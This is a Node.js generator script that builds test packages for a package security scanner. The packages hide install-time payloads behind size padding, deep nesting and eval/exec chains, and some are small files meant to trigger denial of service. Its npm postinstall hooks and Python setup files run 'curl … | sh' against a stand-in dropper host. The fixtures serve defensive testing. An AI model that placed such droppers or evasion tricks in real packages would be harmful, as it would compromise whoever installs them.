#!/usr/bin/env node
// Generates the hostile inputs of issue #16, each one reproducible (no randomness, no
// network): packages that hide code behind the analyzer's caps, tiny inputs that used
// to cost minutes, and names made to attack a terminal. Nothing generated is malware:
// the "payloads" are inert one-liners naming example.invalid.
//
//   node scripts/gen-hostile.mjs OUT_DIR      writes every case under OUT_DIR/<id>/
//   node scripts/gen-hostile.mjs --list       prints the ids and what each one is
//
// Tests import hostileCases() and check each case's `expect`.
import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { pathToFileURL } from "node:url";

const MB = 1024 * 1024;
const DROPPER_JS = 'require("child_process").exec("curl -s http://dropper.example.invalid/x | sh");\n';
const DROPPER_PY = 'import os\nos.system("curl -s http://dropper.example.invalid/x | sh")\n';
const npmManifest = (extra = {}) => JSON.stringify({ name: "hostile-fixture", version: "1.0.0", ...extra }, null, 2);
const postinstall = (command) => npmManifest({ scripts: { postinstall: command } });

/** Code padded past `bytes` with a comment, the payload after the padding. */
function padded(bytes, payload, comment = "//") {
  return `${comment} ${"x".repeat(bytes)}\n${payload}`;
}

/** eval(eval(...)) `depth` levels deep around `code`, each level a string literal. */
function evalChain(depth, code) {
  let text = code;
  for (let i = 0; i < depth; i++) text = `eval(${JSON.stringify(text)});`;
  return text;
}

function execChain(depth, code) {
  let text = code;
  for (let i = 0; i < depth; i++) text = `exec(${JSON.stringify(text)})`;
  return `${text}\n`;
}

/**
 * Every case: `files` is a package directory (path → content). `expect.rule`/`severity`:
 * the finding the scan must give; `expect.noRule`: a benign twin that must not give it;
 * `expect.listed`: a file that must appear in errors[] with its reason.
 */
export function hostileCases() {
  return [
    // ---- 1. nothing unanalysed is reported clean -------------------------------------
    {
      group: "unanalysed",
      id: "npm-deep-array-install",
      about: "install.js with a 1000-deep array before the payload (parsers refuse, Node runs it)",
      files: { "package.json": postinstall("node install.js"), "install.js": `var a = ${"[".repeat(1000)}${"]".repeat(1000)};\n${DROPPER_JS}` },
      expect: { rule: "unanalysed-code", severity: "high", file: "install.js" },
    },
    {
      group: "unanalysed",
      id: "npm-deep-array-unreached",
      about: "benign twin: the same deep array in a file nothing runs",
      files: { "package.json": npmManifest({ main: "index.js" }), "index.js": "module.exports = 1;\n", "data/deep.js": `var a = ${"[".repeat(1000)}${"]".repeat(1000)};\n` },
      expect: { noRule: "unanalysed-code", listed: "data/deep.js" },
    },
    {
      group: "unanalysed",
      id: "npm-long-chain-main",
      about: "entry point with a 5000-term a+b chain",
      files: { "package.json": npmManifest({ main: "index.js" }), "index.js": `var a = "x"; var b = ${Array(5000).fill("a").join("+")};\n${DROPPER_JS}` },
      expect: { rule: "unanalysed-code", severity: "medium", file: "index.js" },
    },
    {
      group: "unanalysed",
      id: "npm-padded-install",
      about: "install.js padded past 6 MB with a comment",
      files: { "package.json": postinstall("node install.js"), "install.js": padded(6.5 * MB, DROPPER_JS) },
      expect: { rule: "unanalysed-code", severity: "high", file: "install.js" },
    },
    {
      group: "unanalysed",
      id: "npm-padded-required",
      about: "install.js requires lib/big.js, padded past 6 MB",
      files: { "package.json": postinstall("node install.js"), "install.js": 'require("./lib/big");\n', "lib/big.js": padded(6.5 * MB, DROPPER_JS) },
      expect: { rule: "unanalysed-code", severity: "high", file: "lib/big.js" },
    },
    {
      group: "unanalysed",
      id: "npm-padded-manifest",
      about: "package.json padded past 10 MB; its postinstall is curl|sh",
      files: { "package.json": JSON.stringify({ name: "hostile-fixture", version: "1.0.0", description: "x".repeat(10.5 * MB), scripts: { postinstall: "curl -s http://dropper.example.invalid/x | sh" } }) },
      expect: { rule: "unanalysed-code", severity: "high", file: "package.json" },
    },
    {
      group: "unanalysed",
      id: "npm-eval-chain",
      about: "payload inside eval(eval(eval(eval(eval(...))))) at install",
      files: { "package.json": postinstall("node install.js"), "install.js": evalChain(6, DROPPER_JS.trim()) + "\n" },
      expect: { rule: "unanalysed-code", severity: "high", file: "install.js" },
    },
    {
      group: "unanalysed",
      id: "npm-string-doubling",
      about: "install.js doubles a string until V8 throws Invalid string length",
      files: { "package.json": postinstall("node install.js"), "install.js": `var s = "ab"; for (var i = 0; i < 40; i++) s = s + s;\n${DROPPER_JS}` },
      expect: { notClean: true },
    },
    {
      group: "unanalysed",
      id: "py-padded-setup",
      about: "setup.py padded past 4 MB with a comment",
      files: { "setup.py": padded(4.5 * MB, DROPPER_PY, "#"), "PKG-INFO": "Metadata-Version: 2.1\nName: hostile-fixture\nVersion: 1.0.0\n" },
      expect: { rule: "unanalysed-code", severity: "high", file: "setup.py" },
    },
    {
      group: "unanalysed",
      id: "py-padded-module-unreached",
      about: "benign twin: a 4.5 MB Python data module deep in the package",
      files: { "setup.py": "from setuptools import setup\nsetup(name='hostile-fixture', version='1.0.0')\n", "pkg/data/table.py": padded(4.5 * MB, "TABLE = 1\n", "#") },
      expect: { noRule: "unanalysed-code", listed: "pkg/data/table.py" },
    },
    {
      group: "unanalysed",
      id: "py-exec-chain",
      about: "setup.py: the payload inside exec(exec(...)) 8 levels deep",
      files: { "setup.py": execChain(8, 'import os; os.system("curl -s http://dropper.example.invalid/x | sh")'), "PKG-INFO": "Metadata-Version: 2.1\nName: hostile-fixture\nVersion: 1.0.0\n" },
      expect: { rule: "unanalysed-code", severity: "high", file: "setup.py" },
    },

    // ---- 2. denial of service from tiny inputs (each must finish in seconds) ----------
    {
      group: "dos",
      id: "py-pyproject-unterminated",
      about: "pyproject.toml: thousands of unterminated name = \"\"\" / backslash runs under [project]",
      files: { "pyproject.toml": `[project]\n${'name = """\\'.repeat(40_000)}\nversion = "1.0"\n[build-system]\nbackend-path = [${'"'.repeat(100_000)}\n`, "mod.py": "X = 1\n" },
      expect: { ecosystem: "pypi" },
    },
    {
      group: "dos",
      id: "py-pkginfo-whitespace",
      about: "PKG-INFO: a Name: header followed by 1 MB of spaces and tabs",
      files: { "PKG-INFO": `Metadata-Version: 2.1\nName:${" \t".repeat(500_000)}x\nVersion: 1.0.0\n`, "mod.py": "X = 1\n" },
      expect: { ecosystem: "pypi", version: "1.0.0" },
    },
    {
      group: "dos",
      id: "py-setupcfg-whitespace",
      about: "setup.cfg: name = followed by 1 MB of spaces and a tab, 20k [metadata] lines",
      files: { "setup.cfg": `[metadata]\nname =${" ".repeat(1_000_000)}\t\n${"[metadata]\n".repeat(20_000)}`, "mod.py": "X = 1\n" },
      expect: { ecosystem: "pypi" },
    },
    {
      group: "dos",
      id: "npm-60k-scripts",
      about: "package.json with 60 000 scripts and a postinstall at the end",
      files: {
        "package.json": JSON.stringify({ name: "hostile-fixture", version: "1.0.0", scripts: { ...Object.fromEntries(Array.from({ length: 60_000 }, (_, i) => [`s${i}`, "echo"])), postinstall: "curl -s http://dropper.example.invalid/x | sh" } }, null, 2),
      },
      expect: { ecosystem: "npm", name: "hostile-fixture", rule: "install-time-network", severity: "medium", file: "package.json" },
    },
  ];
}

function main() {
  const [out] = process.argv.slice(2);
  if (!out) {
    process.stderr.write("usage: node scripts/gen-hostile.mjs OUT_DIR | --list\n");
    process.exit(2);
  }
  for (const c of hostileCases()) {
    if (out === "--list") {
      process.stdout.write(`${c.id}\t${c.about}\n`);
      continue;
    }
    for (const [path, content] of Object.entries(c.files)) {
      const full = join(out, c.id, path);
      mkdirSync(dirname(full), { recursive: true });
      writeFileSync(full, content);
    }
  }
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? "").href) main();
